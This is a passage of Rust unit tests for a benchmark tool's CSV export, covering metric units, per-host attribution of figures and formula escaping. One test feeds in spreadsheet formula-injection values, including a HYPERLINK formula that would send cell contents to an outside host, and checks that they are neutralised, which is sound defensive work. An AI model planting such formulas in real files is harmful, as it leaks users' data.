            let mut want = [
                format!("pid={};role={role}", pid - 100),
                format!("pid={pid};role={role}"),
                format!("pid={};role={role}", pid - 100),
            ];
            let mut got: Vec<String> = labels.iter().map(|l| l.to_string()).collect();
            got.sort();
            want.sort();
            assert_eq!(got, want, "{metric}");
        }
    }

    /// The CSV export of one run, as rows.
    fn csv_rows(run: model::RunRecord) -> Vec<csv::StringRecord> {
        let mut buf = Vec::new();
        to_csv(&[run], &mut buf).unwrap();
        let mut rd = csv::Reader::from_reader(buf.as_slice());
        rd.records().map(|r| r.unwrap()).collect()
    }

    /// The host column of the row of `metric` with `labels`.
    fn csv_host(rows: &[csv::StringRecord], metric: &str, labels: &str) -> String {
        rows.iter()
            .find(|r| &r[8] == metric && &r[11] == labels)
            .unwrap_or_else(|| panic!("no row {metric} {labels}"))[2]
            .to_string()
    }

    /// A rate of a thing counted reads in its unit, as every table gives it: crypto's
    /// `signs_per_s`, stored in ops/s, is in signs/s (acceptance, s31: the console said
    /// signs/s, the CSV ops/s); any other unit as stored.
    #[test]
    fn csv_gives_a_rate_in_the_unit_the_tables_give() {
        let mut run = fixtures::rich_run("r1", None, fixtures::t0(0), 1);
        run.results[0]
            .metrics
            .push(model::Metric::new("signs_per_s", 1487.4, "ops/s"));
        let rows = csv_rows(run);
        let unit = |name: &str| {
            rows.iter()
                .find(|r| &r[8] == name)
                .unwrap_or_else(|| panic!("no row {name}"))[10]
                .to_string()
        };
        assert_eq!(unit("signs_per_s"), "signs/s");
        assert_eq!(unit("ops_per_s"), "ops/s");
    }

    /// A per-host flag names its host in the flags column (acceptance L, 4: three hosts'
    /// `other_load` read `warning:other_load` three times, none told apart); `local` by
    /// its disclosed name; a flag of the result is its code alone.
    #[test]
    fn csv_flags_name_the_host_of_a_per_host_flag() {
        let mut run = fixtures::rich_run("r1", None, fixtures::t0(0), 1);
        run.results[0].flags = vec![
            model::Flag::warning("other_load", "host rbh2: other processes took 54%"),
            model::Flag::warning("other_load", "host local: other processes took 20%"),
            model::Flag::invalid("value_mismatch", "3 get replies did not hold the value"),
        ];
        let local = model::host_display_name(&run.hosts, "local");
        let rows = csv_rows(run);
        // A result's row (an idle power row has its own flags).
        let flags = &rows
            .iter()
            .find(|r| !r[5].is_empty() && !r[12].is_empty())
            .unwrap()[12];
        assert_eq!(
            flags,
            format!(
                "warning:other_load@rbh2;warning:other_load@{local};invalid:value_mismatch;status:failed"
            )
        );
        let f = model::Flag::warning("x", "hosts rbh1 and rbh2: apart");
        assert_eq!(f.host(), None);
    }

    /// A net pair's figures name the host that measured them: the receiver's throughput
    /// and loss its receiver, the sender's rate and TCP counters its sender, a figure of
    /// both ends the pair; not the controller's name on every row.
    #[test]
    fn csv_host_of_a_net_pair_figure_is_the_end_that_measured_it() {
        let mut run = fixtures::rich_run("r1", None, fixtures::t0(0), 1);
        let r = &mut run.results[0];
        r.workload = "net".into();
        r.test = "udp".into();
        r.params.insert("sender_host".into(), "rbh1".into());
        r.params.insert("receiver_host".into(), "rbh2".into());
        r.histograms.clear();
        r.metrics = vec![
            model::Metric::new("throughput_gbit_per_s", 9.0, "Gbit/s"),
            model::Metric::new("throughput_gbit_per_s", 9.5, "Gbit/s").label("end", "sender"),
            model::Metric::new("loss_pct", 0.1, "%"),
            model::Metric::new("retransmits", 3.0, "segments"),
            model::Metric::new("sender_cpu_pct", 40.0, "%"),
            model::Metric::new("receiver_cpu_pct", 60.0, "%"),
            model::Metric::new("cpu_pct_per_gbit", 11.1, "%/(Gbit/s)"),
        ];
        r.missing = vec![model::MissingMetric {
            name: "throughput_gbit_per_s{end=sender}".into(),
            reason: "the sender sent nothing".into(),
        }];
        let rows = csv_rows(run);
        let host = |metric: &str, labels: &str| csv_host(&rows, metric, labels);
        assert_eq!(host("throughput_gbit_per_s", ""), "rbh2");
        assert_eq!(host("throughput_gbit_per_s", "end=sender"), "rbh1");
        assert_eq!(host("loss_pct", ""), "rbh2");
        assert_eq!(host("retransmits", ""), "rbh1");
        assert_eq!(host("sender_cpu_pct", ""), "rbh1");
        assert_eq!(host("receiver_cpu_pct", ""), "rbh2");
        assert_eq!(host("cpu_pct_per_gbit", ""), "rbh1>rbh2");
        assert_eq!(
            host(
                "throughput_gbit_per_s{end=sender}",
                "reason=the sender sent nothing"
            ),
            "rbh1"
        );
        // Telemetry keeps its own host.
        assert!(rows
            .iter()
            .any(|r| &r[8] == "cpu_busy_pct" && &r[2] == "altra-01"));
    }

    /// A run whose one result is rbh1's, served by the load generators rbh2 and rbh3.
    fn served_by_rbh2_and_rbh3() -> model::RunRecord {
        let mut run = fixtures::rich_run("r1", None, fixtures::t0(0), 1);
        let r = &mut run.results[0];
        r.params.insert("sut_host".into(), "rbh1".into());
        r.params.insert("loadgen_hosts".into(), "rbh2,rbh3".into());
        run
    }

    /// Acceptance pass B, 8: the generators' merged `loadgen_busy_pct` carried the host
    /// of the system under test (`rbh1`), which did not generate load; it is named as the
    /// merged generators now. Each generator's own row keeps its name.
    #[test]
    fn csv_host_of_the_generators_merged_figure_is_the_generators() {
        let mut run = served_by_rbh2_and_rbh3();
        let r = &mut run.results[0];
        r.metrics = vec![
            model::Metric::new("ops_per_s", 9.0, "ops/s"),
            model::Metric::new("loadgen_busy_pct", 40.0, "%"),
            model::Metric::new("loadgen_busy_pct", 30.0, "%").label("host", "rbh2"),
            model::Metric::new("bytes_tx", 100.0, "bytes"),
            model::Metric::new("bytes_rx", 900.0, "bytes"),
            model::Metric::new("start_spread_s", 0.01, "s"),
        ];
        let rows = csv_rows(run);
        let host = |metric: &str, labels: &str| csv_host(&rows, metric, labels);
        assert_eq!(host("ops_per_s", ""), "rbh1");
        assert_eq!(host("loadgen_busy_pct", ""), "rbh2+rbh3");
        assert_eq!(host("loadgen_busy_pct", "host=rbh2"), "rbh2");
        // The bytes the clients sent and received: the server received and sent them;
        // how the generators started is theirs too.
        for m in ["bytes_tx", "bytes_rx", "start_spread_s"] {
            assert_eq!(host(m, ""), "rbh2+rbh3", "{m}");
        }
    }

    /// A generator lost mid-test: the merged figures are the survivor's alone, so they
    /// name it alone (they named `rbh2+rbh3`, rbh3's figures being in none of them). The
    /// lost one's own figures, kept from a checkpoint, keep its name.
    #[test]
    fn csv_host_of_the_merged_figures_after_a_generator_was_lost_is_the_survivors() {
        let mut run = served_by_rbh2_and_rbh3();
        let r = &mut run.results[0];
        r.metrics = vec![
            model::Metric::new("ops_per_s", 9.0, "ops/s"),
            model::Metric::new("loadgen_busy_pct", 40.0, "%"),
            model::Metric::new("loadgen_cpu_s", 4.0, "s").label("host", "rbh2"),
            model::Metric::new("loadgen_cpu_s", 1.0, "s")
                .label("host", "rbh3")
                .label("until_checkpoint_s", "4.0"),
        ];
        let rows = csv_rows(run);
        let host = |metric: &str, labels: &str| csv_host(&rows, metric, labels);
        assert_eq!(host("loadgen_busy_pct", ""), "rbh2");
        assert_eq!(
            host("loadgen_cpu_s", "host=rbh3;until_checkpoint_s=4.0"),
            "rbh3"
        );
    }

    /// A host's own missing figure is filed under it: the lost generator's telemetry and
    /// busy share were filed under the server's host (`rbh1 ... telemetry.rbh3`), and the
    /// clients' receive rate under the server too, beside the same bytes as the generators'.
    #[test]
    fn csv_host_of_a_hosts_missing_figure_is_that_host() {
        let mut run = served_by_rbh2_and_rbh3();
        let r = &mut run.results[0];
        r.metrics = vec![
            model::Metric::new("ops_per_s", 9.0, "ops/s"),
            model::Metric::new("rx_bytes_per_s", 900.0, "B/s"),
        ];
        r.missing = vec![
            model::MissingMetric {
                name: "telemetry.rbh3".into(),
                reason: "lost".into(),
            },
            model::MissingMetric {
                name: "loadgen_busy_pct{host=rbh3}".into(),
                reason: "no measured time".into(),
            },
            model::MissingMetric {
                name: "server_calls".into(),
                reason: "the server died".into(),
            },
        ];
        let rows = csv_rows(run);
        let host = |metric: &str| {
            rows.iter()
                .find(|r| &r[8] == metric)
                .unwrap_or_else(|| panic!("no row {metric}"))[2]
                .to_string()
        };
        assert_eq!(host("telemetry.rbh3"), "rbh3");
        assert_eq!(host("loadgen_busy_pct{host=rbh3}"), "rbh3");
        assert_eq!(host("server_calls"), "rbh1");
        assert_eq!(host("rx_bytes_per_s"), "rbh2+rbh3");
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_inert() {
        let mut run = fixtures::rich_run(
            "r1",
            Some("=HYPERLINK(\"http://x/?\"&A1,\"ok\")"),
            fixtures::t0(0),
            1,
        );
        run.results[0].test = "@SUM(1+1)".into();
        run.results[0]
            .metrics
            .push(Metric::new("delta", -2.5, "+x"));
        let mut buf = Vec::new();
        to_csv(&[run], &mut buf).unwrap();
        let mut rd = csv::Reader::from_reader(buf.as_slice());
        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
        assert!(rows.iter().all(|r| r[1].starts_with("'=HYPERLINK(")));
        let delta = rows.iter().find(|r| &r[8] == "delta").unwrap();
        assert_eq!(&delta[4], "'@SUM(1+1)");
        assert_eq!(&delta[10], "'+x");
        // A negative number stays a number.
        assert_eq!(&delta[9], "-2.5");
    }

    #[test]
    fn an_empty_histogram_has_a_count_and_no_latencies() {
        let mut run = fixtures::rich_run("r1", None, fixtures::t0(0), 1);
        run.results[0].metrics.clear();
        let empty = model::hist::new_latency_histogram();
        run.results[0].histograms = vec![HistogramRecord::from_histogram("get", "service", &empty)];
        let mut buf = Vec::new();
        to_csv(&[run], &mut buf).unwrap();
        let mut rd = csv::Reader::from_reader(buf.as_slice());
        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
        let of = |name: &str| rows.iter().filter(|r| &r[8] == name).count();
        assert_eq!(of("latency_count"), 1);
        assert_eq!(of("latency_p99_ns"), 0, "a p99 of 0 for no request");
        assert_eq!(of("latency_mean_ns"), 0);
    }
}
